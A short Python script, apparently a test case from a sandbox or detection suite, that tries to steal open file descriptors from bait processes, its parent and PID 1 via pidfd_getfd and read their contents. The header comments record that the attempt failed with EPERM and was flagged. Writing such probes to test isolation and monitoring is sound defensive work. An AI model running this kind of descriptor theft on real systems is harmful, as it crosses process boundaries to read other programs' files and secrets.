# Tries: to take descriptors out of other processes with pidfd_getfd.
# Seen: EPERM.
# Against: signals; judged: marker; flagged: yes
import ctypes
import json
import os

PIDFD_GETFD = 438
libc = ctypes.CDLL(None, use_errno=True)
bait = json.load(open("bait.json"))
for pid in (*bait["victims"], os.getppid(), 1):
    try:
        process = os.pidfd_open(pid)
    except OSError as error:
        process = -1
        print(error)
    for number in range(3, 2048):
        taken = libc.syscall(PIDFD_GETFD, process, number, 0)
        if taken >= 0:
            os.set_blocking(taken, False)
            try:
                print(pid, number, os.pread(taken, 4096, 0))
            except OSError:
                pass
